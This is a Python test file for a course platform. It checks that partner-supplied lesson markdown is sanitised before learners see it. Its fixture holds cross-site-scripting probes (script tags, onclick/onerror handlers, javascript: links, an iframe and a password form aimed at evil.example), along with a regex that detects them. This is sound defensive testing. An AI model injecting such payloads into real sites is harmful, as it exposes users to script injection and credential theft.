"""Partner content never runs script in a learner's browser."""

from __future__ import annotations

import re

from courses import markdown
from tests.conftest import login
from tests.courses.conftest import answers_for, import_course, start, walk

HOSTILE_LESSON = """---
title: Why a short pause helps
minutes: 4
---

## Between one patient and the next

<script>alert('lesson')</script>

<p onclick="alert('click')" style="position:fixed">Styled and clickable</p>

<a href="javascript:alert('link')">a raw link</a> and [a Markdown link](javascript:alert('md'))

<iframe src="https://evil.example/"></iframe><object data="x"></object>

<form action="https://evil.example/"><input name="password"></form>

[Safe link](https://example.org/wellbeing) and **bold text**.

## Check your understanding

```step
type: knowledge_check
question: "<b onmouseover=\\"alert('question')\\">Which</b> is right?"
options:
  - id: a
    text: "<span onclick=\\"alert('option')\\">Right</span>"
    correct: true
    feedback: "<script>alert('feedback')</script>Well done"
  - id: b
    text: "[Wrong](javascript:alert('option-link'))"
    feedback: Not this one
```
"""

EVIL = re.compile(
    r"<script|<iframe|<object|<form action=\"https://evil|<input name=\"password"
    r"|<[^>]+\son[a-z]+\s*=|<[^>]+\sstyle\s*=|(?:href|src)\s*=\s*\"?\s*javascript:",
    re.IGNORECASE,
)


def test_a_package_with_script_renders_none_of_it(app, client, package, learner):
    (package / "lessons" / "01-why-pause.md").write_text(HOSTILE_LESSON)
    import_course(app, package)
    login(client, learner)
    plan = answers_for(app, "four-minute-reset")
    url = start(client, "four-minute-reset")
    first = client.get(url).get_data(as_text=True)
    assert "Styled and clickable" in first and "<strong>bold text</strong>" in first
    assert '<a href="https://example.org/wellbeing" rel="noopener noreferrer nofollow">' in first
    assert not EVIL.search(first), EVIL.search(first)
    check_url = walk(client, url, plan, stop_at=2)
    check = client.get(check_url).get_data(as_text=True)
    assert "Which</b> is right?" in check and not EVIL.search(check)
    client.post(
        check_url,
        data={
            "csrf_token": re.search(r'name="csrf_token" value="([^"]+)"', check).group(1),
            "action": "answer",
            "answer": "b",
        },
    )
    feedback = client.get(check_url).get_data(as_text=True)
    assert "Well done" in feedback and not EVIL.search(feedback), EVIL.search(feedback)


def test_the_sanitiser_keeps_teaching_markup_and_drops_the_rest():
    html = markdown.render(
        "## Heading\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quote\n\n<img src=x onerror=alert(1)>",
        lambda path: "/assets/" + path,
    )
    assert "<table>" in html and "<blockquote>" in html and "<h2>Heading</h2>" in html
    assert "onerror" not in html


def test_images_come_only_from_the_package():
    html = markdown.render(
        "![tracker](https://tracker.example/pixel.png) ![ok](assets/a.png)", lambda p: "/A/" + p
    )
    assert "tracker.example" not in html
    assert '<img src="/A/assets/a.png" alt="ok">' in html


def test_raw_html_images_are_refused_at_validation(runner, package):
    lesson = package / "lessons" / "04-your-reset.md"
    lesson.write_text(lesson.read_text() + '\n<img src="assets/box-breathing.png">\n')
    result = runner.invoke(args=["courses", "validate", str(package)])
    assert result.exit_code == 2 and "raw HTML image" in result.output


def test_assets_are_served_sandboxed_to_learners_only(app, client, course, learner):
    url = "/courses/four-minute-reset/v/1.0.0/assets/assets/box-breathing.png"
    assert client.get(url).status_code in (302, 401)
    login(client, learner)
    response = client.get(url)
    assert response.status_code == 200 and response.mimetype == "image/png"
    assert "sandbox" in response.headers["Content-Security-Policy"]
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert client.get(url, headers={"If-None-Match": response.headers["ETag"]}).status_code == 304
    assert client.get("/courses/four-minute-reset/v/1.0.0/assets/nope.png").status_code == 404
